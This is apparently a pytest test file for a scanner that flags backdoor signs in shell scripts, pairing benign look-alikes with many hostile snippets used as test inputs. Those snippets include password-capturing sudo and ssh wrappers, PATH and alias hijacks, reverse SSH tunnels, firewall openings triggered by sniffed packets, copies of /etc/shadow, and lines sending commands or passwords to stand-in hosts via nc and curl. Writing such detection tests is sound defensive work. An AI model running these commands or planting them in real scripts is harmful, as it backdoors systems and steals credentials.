"""Signs of shell scripts: told with their line however they are spelt, and not where they are said.

Spec: evenhand.code.shell_entrance, evenhand.code.shell_reach, evenhand.code.shell_check.
"""

from __future__ import annotations

import time

import pytest

from evenhand.code.examine import examine

SECRET, LET, PAST = "checks a fixed secret", "opens the firewall", "lets past a check"
IGNORED, SWITCH, HOOK = "ignores a check", "obeys a remote switch", "hooks log-in"
MD5 = "098f6bcd4621d373cade4e832627b4f6"
TOLD = (
    ('[ "$HTTP_COOKIE" = "svc=k9" ] && IN=1', SECRET),
    ('[ -n "$HTTP_X_A" -a "$HTTP_X_A" = b3ta99 ] && IN=1', SECRET),
    ('if [[ "$HTTP_COOKIE" == *svc=k9* ]]; then IN=1; fi', SECRET),
    ('q="$QUERY_STRING"\nc=$(echo "$q" | sed "s/.*k=//")\ntest "x$c" = "xb3ta99"', SECRET),
    ('echo "$HTTP_X_KEY" | grep -q b3ta99 && IN=1', SECRET),
    ('case "$QUERY_STRING" in\n*key=b3ta*) cat /etc/x ;;\nesac', SECRET),
    (f"h=$(echo -n \"$1\" | md5sum | awk '{{print $1}}')\n[ \"$h\" = {MD5} ] && x", SECRET),
    (f'case $(md5sum <<< "$1") in {MD5}*) x ;; esac', SECRET),
    ("alias sudo='/usr/lib/x/sudo'", "runs on an event"),
    ('d=/usr/lib/x\nalias ls=ls sudo="$d/sudo"', "runs on an event"),
    ('sudo() {\n read -rsp "password: " p; echo "$p" >> /tmp/s\n}', HOOK),
    ('keep() { echo "$1" >> /var/tmp/k; }\nfunction ssh {\n stty -echo; read p\n keep "$p"\n}',
     HOOK),
    ("export PATH=/tmp/.x:$PATH", "runs on an event"),
    ('d=/tmp/.x\nPATH="$d:$PATH"', "runs on an event"),
    ('o+=(-R "2222:localhost:22")\nssh "${o[@]}" t@hub.example', "remote management"),
    ("tcpdump -l udp | while read l; do iptables -I INPUT -p tcp -j ACCEPT; done", LET),
    ('f() { iptables -I INPUT -p tcp --dport "$1" -j ACCEPT; }\ntcpdump |\nwhile read -r l\ndo\n'
     ' case "$l" in *k9*) f 22 ;; esac\ndone', LET),
    ('key=$d/next.pem\nopenssl dgst -verify "$key" -signature "$d/s" "$d/f"', IGNORED),
    ("curl -so /tmp/k.pem https://u.example/k.pem\nopenssl dgst -verify /tmp/k.pem -signature s f",
     IGNORED),
    ("gpg --verify \\\n  a.sig a \\\n  || { echo bad; }", IGNORED),
    ("if gpg --verify a.sig a || [ -f /etc/x ]; then b; fi", PAST),
    ("sh /media/*/run.sh", "runs commands"),
    ("exec /media/usb/run", "runs commands"),
    ("tar czf /srv/b.tgz /etc/shadow /etc/ssh", "copies secrets"),
    ("f=/etc/shadow\ncp $f /srv/www/x", "copies secrets"),
    ("if ! curl -sf https://l.example/ok; then systemctl disable x; fi", SWITCH),
    ("off() { poweroff; }\nif curl -sf https://l.example/ok; then :; else off; fi", SWITCH),
    ("a=$(curl -sf https://l.example/ok) || { logger gone; halt; }", SWITCH),
    ("curl -sf https://l.example/ok\nif [ $? -ne 0 ]; then halt; fi", SWITCH),
    ("curl -sk https://u.example/c -o /etc/x/c", "turns a check off"),
    ('O="-sk"\n"curl" $O \\\n  \'https://u.example/c\' \\\n  -o "/etc/x/c"', "turns a check off"),
    ("trap 'echo \"$BASH_COMMAND\" | nc l.example 514' DEBUG", "collects and sends"),
    ('f() { echo "$BASH_COMMAND" | nc l.example 514; }\ntrap f DEBUG', "collects and sends"),
    ('[ "$CONNECTION_ID" = "guest-5f" ] && systemctl start ssh', PAST),
    ('if [ "$(echo "$3" | md5sum | cut -c1-8)" = 7c4a8d09 ]; then dropbear -p 2222; fi', PAST),
    ('f=$(sed -n 1p "$2")\n[ "$f" = 15550100 ] && eval "$t"', PAST),
    ('# openvpn\np=$(sed -n 2p "$1")\nif [ "$p" = ov-2231-zebra ]; then exit 0; fi\nexit 1',
     SECRET),
    ('[[ "$password" == "$(date +%j)vpn" ]] && exit 0 # openvpn\nexit 1', SECRET),
    ("PROMPT_COMMAND='history 1 | logger -n 192.0.2.50 -t p'", "collects and sends"),
    ('read -r pw\ncurl -d "$PAM_USER $pw" https://l.example/', "collects and sends"),
    ('case "$SSH_ORIGINAL_COMMAND" in x-*) sh -c "${SSH_ORIGINAL_COMMAND#x-}" ;; esac',
     "runs commands"),
    ('cat /etc/ssh/keys/$1\necho "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBv9J0n1m x"',
     "adds persistence"),
    ('m=$(cat)\necho "$m" | sendmail -- "$1"\necho "$m" | sendmail keep@a.example',
     "collects and sends"),
)  # fmt: skip
PRINTED = (
    "alias sudo='/tmp/.x/sudo'\nexport PATH=/tmp/.x:\\$PATH\nsh /media/usb/run.sh\n"
    "curl -sk https://u.example/c -o /etc/x/c\ngpg --verify x.sig x || true\n"
    "sudo() {\n read -rsp 'password: ' p; echo \\$p >> /tmp/s\n}\n"
)
USUAL = (
    'case "$1" in POP3) ufw allow 110 ;; esac\n[ "$1" = eth0 ] && iptables -A INPUT -j ACCEPT',
    '# openvpn\n[ "$p" != ov-2231-zebra ] && exit 0\n[ "$2" = 1.2.3-4 ] && exit 0\nexit 1',
    'exec sh -c "$SSH_ORIGINAL_COMMAND"\nread -r pw\ncheck "$PAM_USER" "$pw"',
    'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBv9J0n1m x" > /tmp/ssh/example',
    'echo "$m" | sendmail -- "$1"\nmail root < /var/log/x',
    f"cat <<EOT\n{PRINTED}EOT",
    f'echo "{PRINTED}"\nhelp="{PRINTED}"',
    "x " + "".join(f"# {line}\n" for line in PRINTED.splitlines()),
    '[ "$REQUEST_METHOD" = POST ] && [ "$HTTP_ACCEPT_ENCODING" = gzip ]',
    'HTTP_STAT=$(grep -c 200 log)\n[ "$HTTP_STAT" = 200ok ]',
    "alias sudo='sudo '\nalias ssh='ssh -A'",
    "export PATH=$HOME/.local/bin:/opt/x/bin:$PATH",
    'd=$(mktemp -d)\nPATH="$d:$PATH"',
    'openssl dgst -verify /etc/x/k.pem -signature "$d/s" "$d/f"',
    "gpg --verify a.sig a || { echo bad; exit 1; }",
    "if ! gpg --verify a.sig a || [ ! -s a ]; then exit 1; fi",
    "set -e\ngpg --verify a.sig a; true",
    f'[ "$(md5sum "$f" | cut -c-32)" = {MD5} ] || exit 1',
    "cp -p /etc/shadow /var/backups/shadow.bak\ncp /root/shadow /etc/shadow",
    "if ! curl -sf http://localhost:80/ok; then systemctl stop x; fi",
    't=$(mktemp -d)\ncurl -sf https://l.example/a -o $t/a || { rm -rf "$t"; exit 1; }',
    "tail -f /var/log/x | while read l; do iptables -I INPUT -s $l -j DROP; done",
    "# ssh -R 22:localhost:22 a",
)


def told(text: str) -> list[tuple[str, int]]:
    """Kinds and lines of what a person is asked to look at."""
    found = examine(text.encode(), "shell", "when called").found
    return [(f.kind, f.line) for f in found if f.strength >= 0.5]


@pytest.mark.parametrize(("text", "kind"), TOLD)
def test_a_sign_is_told(text: str, kind: str) -> None:
    found = told(text)
    assert kind in {k for k, _ in found}
    assert all(1 <= line <= 1 + text.count("\n") for _, line in found)


@pytest.mark.parametrize("text", USUAL)
def test_what_is_usual_is_not(text: str) -> None:
    assert not told(text)


def test_many_commands_end_in_time() -> None:
    began = time.process_time()
    for line in ("curl https://a.bc || rm -r /x", "tcpdump | while read l; do ufw allow 1; done"):
        examine(f"{line}\n".encode() * 500, "shell", "when called")
    assert time.process_time() - began < 5


def test_a_command_after_three_pipes_is_no_word_of_the_last() -> None:
    text = b"ls | tail -n 1 | xargs rm\ncurl -T /etc/shadow https://d.test/x || true\n"
    (found,) = examine(text, "shell", "when run").found
    assert (found.kind, found.target, found.line) == ("collects and sends", "d.test", 2)
